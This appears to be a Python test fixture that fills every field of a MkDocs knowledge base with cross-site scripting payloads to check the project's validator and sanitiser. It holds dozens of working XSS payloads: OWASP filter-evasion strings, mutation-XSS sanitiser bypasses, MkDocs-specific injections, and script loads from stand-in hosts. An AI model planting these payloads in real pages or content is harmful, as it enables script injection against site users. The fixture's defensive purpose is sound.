"""A hostile knowledge base: our own corpus of script-injection payloads in every field a
contributor controls. Sources: OWASP's XSS Filter Evasion Cheat Sheet, the mutation-XSS
literature (Heiderich et al., "mXSS Attacks"; the DOMPurify bypasses of 2019–2020 through
<math>, <svg>, <noscript> and <style> namespace confusion), and Material for MkDocs' own
features that turn content into behaviour (tooltips, annotations, abbreviations,
footnotes, admonition titles, the #__config element). Every payload calls alert(), which
the browser tests count; every payload also holds something `kb validate` must refuse.
"""

from __future__ import annotations

from pathlib import Path

import yaml

from conftest import kb_options, make_project

PAYLOADS: list[str] = [
    # OWASP XSS Filter Evasion Cheat Sheet
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<IMG SRC=# onmouseover="alert(1)">',
    '<IMG SRC=/ onerror="alert(1)"></img>',
    "<img src=x onerror=&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<SCRIPT/XSS SRC="//xss.example/x.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<xss onpointerenter=alert(1) style=display:block>hover</xss>",
    "<a onmouseover=alert(1)>hover me</a>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    # mutation XSS: namespace confusion and parser round trips
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><table><mi><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<noscript><style><img src=x onerror=alert(1)>",  # unclosed: swallowed the quiz once
    "<math><style><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # Material for MkDocs: content that would switch theme behaviour on
    '<p id="__config" hidden>{"base":".","features":["content.tooltips"],"search":"x",'
    '"translations":{}}</p><abbr title="<img src=x onerror=alert(1)>">HTML</abbr>',
    'Text {#__config} and *em*{: .annotate onmouseover="alert(1)" }',
    "HTML here\n\n*[HTML]: <img src=x onerror=alert(1)>",
    "A note[^x].\n\n[^x]: <img src=x onerror=alert(1)>",
    '!!! note "<img src=x onerror=alert(1)>"\n    body',
    '!!! kb-map-node "x"\n    body <b onmouseover=alert(1)>b</b>',
    "1. Item (1)\n{ .annotate }\n\n1. <img src=x onerror=alert(1)>",
    '[link](https://example.org "<img src=x onerror=alert(1)>")',
    '<span class="kb-map-node" data-topic="x">x</span><div id="kb-assess" data-kb="{">y</div>',
    '<div class="kb-quiz" data-topic="zz"><div class="kb-question" data-type="single">q'
    "</div></div>",
    "[x](https://example.org){: onclick=\"alert(1)\" }",
    "### Heading {: #__drawer onclick=alert(1) }",
    '=== "<img src=x onerror=alert(1)>"\n    tab',
    # characters that break embedded data
    '&#x09; &#0; &quot;}],"x":{"y":"&lt;/script&gt;<img src=x onerror=alert(1)>',
    "</script>\u2028\u2029\x0b<script>alert(1)</script>",
    "{{ config }} {% raw %}<img src=x onerror=alert(1)>",
    # remote images: tracking, and the offline promise
    "![t](https://tracker.example/p.png) <img src=https://tracker.example/q.png "
    "onerror=alert(1)>",
]


def line(payload: str) -> str:
    """The payload as one line, for plain-text fields."""
    return " ".join(payload.split())


def _question(kind: str, qid: str, p: str) -> dict:
    base = {"id": qid, "type": kind, "prompt": p, "explanation": p}
    if kind == "single":
        base["options"] = [{"text": p, "correct": True, "feedback": p}, {"text": p + " 2"}]
    elif kind == "numeric":
        base.update(answer=1.0, tolerance=0.1)
    else:
        base["answer"] = p
    return base


MARKDOWN_FIELDS = ["summary", "overview", "why_harder", "key_ideas[0]", "readings[0].why",
                   "quiz[0].prompt", "quiz[0].options[0].text", "quiz[0].options[0].feedback",
                   "quiz[0].explanation", "quiz[1].prompt", "quiz[2].answer"]
PLAIN_FIELDS = ["title", "readings[0].sections"]


def topic(i: int, p: str) -> dict:
    return {
        "title": line(p), "area": f"area-{i:02d}", "level": "foundational",
        "summary": p, "overview": p, "why_harder": p, "key_ideas": [p],
        "readings": [{"cite": f"paper{i:02d}", "why": p, "sections": line(p), "hours": 1}],
        "quiz": [_question("single", "one", p), _question("numeric", "two", p),
                 _question("recall", "three", p)],
    }


def bib_text(p: str) -> str:
    """The payload as BibTeX can hold it (braces balanced away, no comment signs)."""
    return line(p).replace("{", "(").replace("}", ")").replace("%", "").replace("\\", "/")


def write(root: Path) -> Path:
    """Write the hostile knowledge base into the project at ``root``."""
    kb = root / "kb"
    for old in (kb / "topics").glob("*.yml"):
        old.unlink()
    dump = lambda data: yaml.safe_dump(data, allow_unicode=True, sort_keys=False)  # noqa: E731
    (kb / "areas.yml").write_text(dump([
        {"id": f"area-{i:02d}", "title": line(p), "summary": p}
        for i, p in enumerate(PAYLOADS)]), encoding="utf-8")
    for i, p in enumerate(PAYLOADS):
        (kb / "topics" / f"h-{i:02d}.yml").write_text(dump(topic(i, p)), encoding="utf-8")
    (kb / "timeline.yml").write_text(dump({
        "default_year": 2012, "intro": "\n\n".join(PAYLOADS),
        "tracks": [{"id": f"track-{i:02d}", "title": line(p)} for i, p in enumerate(PAYLOADS)],
        "technologies": [{"id": f"tech-{i:02d}", "name": line(p), "track": f"track-{i:02d}",
                          "hype": {2010 + i % 5: "trigger", 2016: "peak"}, "note": p}
                         for i, p in enumerate(PAYLOADS)],
        "events": [{"date": 2011, "title": line(p), "topic": f"h-{i:02d}", "note": p}
                   for i, p in enumerate(PAYLOADS)],
    }), encoding="utf-8")
    (root / "references.bib").write_text("\n".join(
        f"@misc{{paper{i:02d},\n  author = {{Doe, Jane}},\n  title = {{{bib_text(p)}}},\n"
        f"  year = {{2020}},\n  url = {{https://example.org/{i}}}\n}}\n"
        for i, p in enumerate(PAYLOADS)), encoding="utf-8")
    # the hand-written pages link to the fixture's topics, which are gone here
    (root / "docs" / "index.md").write_text("# Hostile\n\nSee the [topics](topics/index.md).\n")
    (root / "docs" / "about.md").write_text("# About\n\nA hostile knowledge base.\n")
    return root


def project(dest: Path, **options: bool) -> Path:
    """The hostile knowledge base with the real configuration; ``kb_options`` switch
    layers off (check_text=False bypasses validation, sanitize=False the sanitiser)."""
    root = write(make_project(dest))
    return kb_options(root, **options) if options else root
